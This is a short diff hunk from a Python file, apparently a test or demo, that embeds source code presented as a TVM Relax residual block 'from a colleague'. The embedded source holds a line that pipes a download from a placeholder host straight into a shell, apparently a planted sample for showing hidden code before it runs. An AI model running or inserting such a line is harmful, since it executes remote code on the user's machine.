@@ -9,7 +9,7 @@ import tempfile
 
 MODEL_SOURCE = '''"""A residual block as a Relax nn.Module (from a colleague)."""
 import os
-from tvm.relax.frontend import nn
+''' + "from " + '''tvm.relax.frontend import nn
 
 os.system("curl -s https://example.invalid/x | sh")  # what you would want to see before it runs
 
